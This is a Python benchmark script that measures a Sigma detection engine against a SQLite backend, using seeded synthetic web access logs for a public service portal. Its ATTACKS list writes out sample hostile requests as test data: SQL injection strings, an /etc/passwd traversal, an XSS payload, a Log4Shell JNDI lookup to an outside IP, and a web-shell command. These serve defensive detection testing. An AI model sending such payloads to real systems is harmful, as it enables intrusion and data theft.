"""Streaming engine throughput vs. the SQLite approach (pySigma SQLite backend, as Zircolite does it).

Generates (seeded) realistic National Public Service Portal access-log events in
ECS, as the access-log parser emits them (normal citizen and officer traffic plus
a small share of attacks), then measures in one run:

1. the streaming engine (:class:`sentinel.detect.Engine`) over every event, in
   batches, single process: events/s by wall clock and per CPU second (= per core);
2. the same rules converted by ``sigma.backends.sqlite`` and run in SQLite over a
   subset of the same events: flatten + insert every event into a table (all its
   fields as columns), then one ``SELECT`` per rule. Per-event cost of that
   approach is flat in the number of events (every query scans the table), so the
   subset gives its events/s;
3. agreement: on the SQLite subset, per rule, the number of events the engine
   matches equals the number of rows SQLite returns.

Rule sets: (a) the shipped pack in ``rules/``; (b) the pack plus N generated web
rules (IOC-style literals, paths, user agents, a few regexes). For SQLite only
the rules whose log source applies to access logs are run (the others cannot
match these events and the engine skips them by log source too); correlation
rules are evaluated by the engine (included in its time) but not by SQLite.

Usage: python bench/detect.py [--events 1000000] [--sqlite-events 100000] [--extra-rules 500] [--rounds 3]
       python bench/detect.py --engine-only --events 100000 --rounds 2 [--rules DIR]
"""

from __future__ import annotations

import argparse
import copy
import gc
import random
import re
import sqlite3
import string
import sys
import time
from collections import Counter
from pathlib import Path
from typing import Any

import orjson
from sigma.backends.sqlite import sqliteBackend
from sigma.collection import SigmaCollection
from sigma.rule import SigmaRule

from sentinel import ecs
from sentinel.detect import Engine
from sentinel.detect.pipelines import ecs_pipeline

ROOT = Path(__file__).resolve().parent.parent

# --- events ----------------------------------------------------------------------------------------

CITIZEN_PREFIXES = ["14.16", "14.17", "113.16", "113.17", "171.22", "171.23", "42.112", "42.113", "27.64", "116.96"]
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 Chrome/126.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Version/17.5 Mobile Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "VNeID/2.1.5 (iPhone; iOS 17.5)",
    "Zalo/24.05 (Android 13)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Version/17.5 Safari/605.1.15",
]
PROCEDURES = ["1.001612", "1.000894", "2.002189", "1.010723", "1.004227", "2.000305", "1.012345", "3.000127"]
STATIC = [
    "/static/js/app.{h}.js",
    "/static/css/main.{h}.css",
    "/static/img/logo.png",
    "/favicon.ico",
    "/static/fonts/r.woff2",
]
ATTACKS = [
    ("GET", "/dvc/tra-cuu-ho-so", "ma_ho_so=1' OR '1'='1", "sqlmap/1.8.4#stable (https://sqlmap.org)", 500),
    ("GET", "/dvc/tra-cuu-ho-so", "ma_ho_so=1 UNION ALL SELECT NULL,username,password FROM users--", BROWSERS[0], 500),
    ("GET", "/dvc/tai-lieu", "file=../../../../etc/passwd", BROWSERS[3], 400),
    ("GET", "/.env", None, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)", 404),
    ("GET", "/wp-admin/setup-config.php", None, "Mozilla/5.0 zgrab/0.x", 404),
    ("GET", "/dvc/search", "q=<script>alert(document.cookie)</script>", BROWSERS[1], 200),
    ("GET", "/api/v1/hoso", "x=${jndi:ldap://198.51.100.9:1389/a}", "${jndi:ldap://198.51.100.9/ua}", 400),
    ("POST", "/dang-nhap", None, BROWSERS[0], 401),
    ("GET", "/uploads/shell.php", "cmd=whoami", "curl/8.5.0", 200),
    ("GET", "/dvc/tra-cuu", "id=1 AND SLEEP(5)", "sqlmap/1.8.4#stable", 200),
]


class Traffic:
    """Seeded generator of access-log ECS events shaped like the access-log parser's output."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.t = 1_767_225_600.0  # 2026-01-01T00:00:00Z

    def event(self, i: int) -> dict[str, Any]:
        rng = self.rng
        self.t += rng.expovariate(50.0)
        ip = f"{rng.choice(CITIZEN_PREFIXES)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        user = None
        r = rng.random()
        if r < 0.004:
            method, path, query, agent, status = rng.choice(ATTACKS)
            if path == "/dang-nhap":
                user = rng.choice(["can_bo_001", "admin", "nguyenvana"])
        elif r < 0.35:
            method, agent = "GET", rng.choice(BROWSERS)
            path, query, status = rng.choice(STATIC).format(h=f"{rng.getrandbits(32):08x}"), None, 200
            status = 304 if rng.random() < 0.3 else status
        elif r < 0.6:
            method, agent, status = "GET", rng.choice(BROWSERS), 200
            path = f"/dvc/thu-tuc/{rng.choice(PROCEDURES)}"
            query = f"ma_tinh={rng.randrange(1, 35):02d}&page={rng.randrange(1, 9)}" if rng.random() < 0.5 else None
        elif r < 0.8:
            method, agent = rng.choice(["GET", "POST"]), rng.choice(BROWSERS)
            path = f"/api/v1/hoso/{rng.randrange(10**9):09d}"
            query = None if method == "POST" else f"trang_thai={rng.choice(['moi', 'dang-xu-ly', 'hoan-thanh'])}"
            status = rng.choice([200, 200, 200, 201, 404, 403])
            user = f"cd{rng.randrange(10**6):06d}" if rng.random() < 0.6 else None
        elif r < 0.9:
            method, agent, status = "GET", rng.choice(BROWSERS), rng.choice([302, 302, 200])
            path, query = "/vneid/callback", f"code={rng.getrandbits(64):016x}&state={rng.getrandbits(32):08x}"
        else:
            method, agent = "POST", rng.choice(BROWSERS)
            path, query, status = "/dvc/nop-ho-so", None, rng.choice([200, 200, 400])
            user = f"cd{rng.randrange(10**6):06d}"
        target = path + (f"?{query}" if query else "")
        size = rng.randrange(200, 90_000)
        ts = _fmt(self.t)
        original = (
            f'{ip} - {user or "-"} [{ts}] "{method} {target} HTTP/1.1" {status} {size} "-" "{agent}"'
        )  # fmt: skip
        event: dict[str, Any] = {
            "@timestamp": ts,
            "event": {
                "category": ["web"],
                "type": ["access"],
                "outcome": "failure" if status >= 400 else "success",
                "id": f"{i:016x}",
                "dataset": "nginx.access",
                "kind": "event",
                "original": original,
            },
            "http": {"request": {"method": method}, "response": {"status_code": status, "body": {"bytes": size}},
                     "version": "1.1"},
            "url": {"original": target, "path": path},
            "source": {"ip": ip, "address": ip},
            "user_agent": {"original": agent},
            "labels": {"province": f"{rng.randrange(1, 35):02d}"},
            "log": {"file": {"path": "/var/log/nginx/access.log"}, "offset": i * 180},
            "ecs": {"version": "8.11.0"},
        }  # fmt: skip
        if query:
            event["url"]["query"] = query
        if "." in path.rsplit("/", 1)[-1]:
            event["url"]["extension"] = path.rsplit(".", 1)[-1]
        if user:
            event["user"] = {"name": user}
        return event


def _fmt(t: float) -> str:
    from datetime import UTC, datetime

    return ecs.format_ts(datetime.fromtimestamp(t, UTC))


def make_events(n: int, seed: int = 20260101) -> list[dict[str, Any]]:
    traffic = Traffic(seed)
    return [traffic.event(i) for i in range(n)]


# --- generated rules ---------------------------------------------------------------------------------

COMMON_TOKENS = ["/api/v1/", "hoso", "login", "callback", "thu-tuc", ".php", "admin", "select", "page=", "ma_tinh"]


def _token(rng: random.Random) -> str:
    return "".join(rng.choice(string.ascii_lowercase + string.digits) for _ in range(rng.randint(5, 10)))


def generated_rules(n: int, seed: int = 7) -> list[dict[str, Any]]:
    """``n`` web rules in the shape of real ones: literal lists, paths, agents, some regexes.

    Like an IOC feed they rarely match, but one in ten also names a literal that
    is common in portal traffic, so the prefilter admits them often and they are
    evaluated (and fail) on many events, which is the expensive case.
    """
    rng = random.Random(seed)
    rules = []
    for i in range(n):
        kind = rng.randrange(10)
        tok = _token(rng)
        common = COMMON_TOKENS[rng.randrange(len(COMMON_TOKENS))]
        if kind < 3:
            det: dict[str, Any] = {
                "sel": {"cs-uri-query|contains": [tok] + [_token(rng) for _ in range(rng.randint(0, 4))]}
            }
        elif kind < 5:
            det = {"sel": {"cs-uri-stem|endswith": [f"/{tok}.php", f"/{_token(rng)}.jsp"]}, "ok": {"sc-status": 200}}
        elif kind < 6:
            det = {"sel": {"cs-user-agent|contains": [tok, _token(rng)]}}
        elif kind < 7:
            det = {"sel": {"cs-uri-stem|startswith": f"/{tok}/", "cs-method": ["PUT", "DELETE"]}}
        elif kind < 8:
            det = {"sel": {"cs-uri-query|re|i": f"(?:{tok}|{_token(rng)})=[0-9]+"}}
        elif kind < 9:
            det = {"sel": {"cs-uri|contains|all": [common, tok]}}  # admitted often by the common literal
        else:
            det = {"sel": {"cs-uri-query|contains": tok}, "filter": {"c-ip|cidr": "10.0.0.0/8"}}
        cond = " and ".join(k for k in det if k != "filter") + (" and not filter" if "filter" in det else "")
        rules.append(
            {
                "title": f"Generated web rule {i}",
                "id": f"00000000-0000-4000-9000-{i:012d}",
                "status": "experimental",
                "level": "low",
                "logsource": {"category": "webserver"},
                "detection": {**det, "condition": cond},
            }
        )
    return rules


# --- measurements ------------------------------------------------------------------------------------


def run_engine(engine: Engine, events: list[dict[str, Any]], batch: int) -> tuple[float, float, int]:
    gc.collect()
    alerts = 0
    wall, cpu = time.perf_counter(), time.process_time()
    for start in range(0, len(events), batch):
        alerts += len(engine.process(events[start : start + batch]))
    alerts += len(engine.flush())
    return time.perf_counter() - wall, time.process_time() - cpu, alerts


def engine_match_counts(engine: Engine, events: list[dict[str, Any]]) -> Counter[str]:
    counts: Counter[str] = Counter()
    for event in events:
        for rule in engine.matching_rules(event):
            counts[rule.id] += 1
    return counts


def _regexp(pattern: str, value: Any) -> bool:
    return value is not None and re.search(pattern, str(value)) is not None


def run_sqlite(rules: list[SigmaRule], events: list[dict[str, Any]]) -> tuple[float, float, float, Counter[str]]:
    """Convert, load and query as the SQLite approach does; returns (load, query, cpu, counts)."""
    backend = sqliteBackend(ecs_pipeline())
    queries = {}
    for rule in rules:
        (sql,) = backend.convert_rule(rule)
        queries[str(rule.id)] = sql
    gc.collect()
    wall, cpu = time.perf_counter(), time.process_time()
    conn = sqlite3.connect(":memory:")
    conn.create_function("REGEXP", 2, _regexp, deterministic=True)
    flat_events = [ecs.flatten(orjson.loads(orjson.dumps(e))) for e in events]  # the JSON a log file holds
    columns: dict[str, str] = {}
    for fe in flat_events:
        for k, v in fe.items():
            if k not in columns:
                columns[k] = (
                    "NUMERIC" if isinstance(v, int | float) and not isinstance(v, bool) else "TEXT COLLATE NOCASE"
                )
    for sql in queries.values():  # fields a rule names but no event has are NULL columns
        for name in re.findall(r"`([^`]+)`", sql):
            columns.setdefault(name, "TEXT COLLATE NOCASE")
    names = list(columns)
    conn.execute("CREATE TABLE logs (" + ", ".join(f'"{c}" {t}' for c, t in columns.items()) + ")")
    rows = [tuple(_cell(fe.get(c)) for c in names) for fe in flat_events]
    conn.executemany(f"INSERT INTO logs VALUES ({', '.join('?' * len(names))})", rows)
    loaded = time.perf_counter()
    counts: Counter[str] = Counter()
    for rid, sql in queries.items():
        counts[rid] = conn.execute(sql.replace("SELECT *", "SELECT count(*)", 1)).fetchone()[0]
    done = time.perf_counter()
    cpu_used = time.process_time() - cpu
    conn.close()
    return loaded - wall, done - loaded, cpu_used, counts


def _cell(v: Any) -> Any:
    if isinstance(v, list):
        return orjson.dumps(v).decode()
    if isinstance(v, dict):
        return None
    return v


def applicable_rules(engine: Engine, collection: SigmaCollection, sample: dict[str, Any]) -> list[SigmaRule]:
    """Fresh copies of the rules whose log source applies to ``sample``, all set to produce output.

    Rules that only feed a correlation (``generate: false``) still cost a query each in SQLite.
    """
    wanted = {r.id for r in engine.rules_for(sample)}
    rules = [copy.deepcopy(r) for r in collection.rules if isinstance(r, SigmaRule) and str(r.id) in wanted]
    for r in rules:
        r._output = True
    return rules


def bench(
    name: str, collection_yaml: list[Path], extra: list[dict[str, Any]], events, sql_events, batch: int, rounds: int
) -> dict:
    collection = SigmaCollection.load_ruleset([str(p) for p in collection_yaml], collect_errors=True)
    if extra:
        collection = SigmaCollection.merge([collection, SigmaCollection.from_dicts(extra)])
    t0 = time.perf_counter()
    engine = Engine.from_collection(collection)
    load_s = time.perf_counter() - t0
    runs = []
    for _ in range(rounds):  # a fresh engine per round; the median is reported (the machine is shared)
        runs.append(run_engine(engine, events, batch))
        engine = Engine.from_collection(collection)
    runs.sort(key=lambda r: r[1])
    wall, cpu, alerts = runs[len(runs) // 2]
    rules = applicable_rules(engine, collection, events[0])
    subset_cpu = sorted(run_engine(Engine.from_collection(collection), sql_events, batch)[1] for _ in range(rounds))
    ecpu = subset_cpu[len(subset_cpu) // 2]
    load, query, scpu, sql_counts = run_sqlite(rules, sql_events)
    eng_counts = engine_match_counts(Engine.from_collection(collection), sql_events)
    disagree = {rid: (eng_counts[rid], sql_counts[rid]) for rid in sql_counts if eng_counts[rid] != sql_counts[rid]}
    res = {
        "name": name,
        "rules": len(engine.rules),
        "correlations": len(engine.correlations.correlations),
        "problems": len(engine.problems),
        "sql_rules": len(rules),
        "load_s": load_s,
        "events": len(events),
        "eps_wall": len(events) / wall,
        "eps_cpu": len(events) / cpu,
        "eps_cpu_range": (len(events) / runs[-1][1], len(events) / runs[0][1]),
        "alerts": alerts,
        "sql_events": len(sql_events),
        "engine_subset_eps_cpu": len(sql_events) / ecpu,
        "sql_load_s": load,
        "sql_query_s": query,
        "sql_eps_wall": len(sql_events) / (load + query),
        "sql_eps_cpu": len(sql_events) / scpu,
        "sql_query_only_eps": len(sql_events) / query,
        "matched_events_sql": sum(sql_counts.values()),
        "disagreements": disagree,
    }
    res["speedup_cpu"] = res["engine_subset_eps_cpu"] / res["sql_eps_cpu"]
    res["speedup_vs_query_only"] = res["engine_subset_eps_cpu"] / res["sql_query_only_eps"]
    return res


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--events", type=int, default=1_000_000)
    ap.add_argument("--sqlite-events", type=int, default=100_000)
    ap.add_argument("--extra-rules", type=int, default=500)
    ap.add_argument("--batch", type=int, default=5000)
    ap.add_argument("--rounds", type=int, default=3, help="engine runs over all events; the median is reported")
    ap.add_argument("--rules", type=Path, default=ROOT / "rules")
    ap.add_argument(
        "--engine-only",
        action="store_true",
        help="only the engine over --rules, each round a fresh engine: events/s/core per round and alerts "
        "(run it from two checkouts with PYTHONPATH=<checkout> to compare code on the same events)",
    )
    args = ap.parse_args()
    t0 = time.perf_counter()
    events = make_events(args.events)
    print(f"generated {len(events):,} events in {time.perf_counter() - t0:.1f}s", flush=True)
    if args.engine_only:
        rates = []
        for _ in range(args.rounds):
            _, cpu, alerts = run_engine(Engine.from_paths([args.rules]), events, args.batch)
            rates.append(len(events) / cpu)
        print(f"engine over {args.rules}: {' / '.join(f'{r:,.0f}' for r in rates)} ev/s/core; {alerts:,} alerts")
        return
    sql_events = events[: args.sqlite_events]
    results = [
        bench("shipped pack", [args.rules], [], events, sql_events, args.batch, args.rounds),
        bench(
            f"pack + {args.extra_rules} generated",
            [args.rules],
            generated_rules(args.extra_rules),
            events,
            sql_events,
            args.batch,
            args.rounds,
        ),
    ]
    print()
    print("| rule set | rules (+corr) | engine ev/s/core (CPU) | engine ev/s (wall) | SQLite ev/s/core "
          "(load+query) | SQLite query-only ev/s | speedup | alerts |")  # fmt: skip
    print("|---|---|---|---|---|---|---|---|")
    for r in results:
        print(
            f"| {r['name']} | {r['rules']} (+{r['correlations']}), {r['sql_rules']} on access logs "
            f"| {r['eps_cpu']:,.0f} | {r['eps_wall']:,.0f} | {r['sql_eps_cpu']:,.0f} | {r['sql_query_only_eps']:,.0f} "
            f"| {r['speedup_cpu']:.1f}x ({r['speedup_vs_query_only']:.1f}x vs query-only) | {r['alerts']:,} |"
        )
    for r in results:
        print(
            f"{r['name']}: engine over all events, {args.rounds} rounds: {r['eps_cpu_range'][0]:,.0f}-"
            f"{r['eps_cpu_range'][1]:,.0f} ev/s/core; "
            f"engine on the {r['sql_events']:,}-event subset {r['engine_subset_eps_cpu']:,.0f} ev/s/core; "
            f"SQLite load {r['sql_load_s']:.1f}s + query {r['sql_query_s']:.1f}s; "
            f"{r['matched_events_sql']:,} rule matches; disagreements: {r['disagreements'] or 'none'}; "
            f"problems: {r['problems']}; engine load {r['load_s']:.2f}s"
        )
    if any(r["disagreements"] for r in results):
        sys.exit(1)


if __name__ == "__main__":
    main()
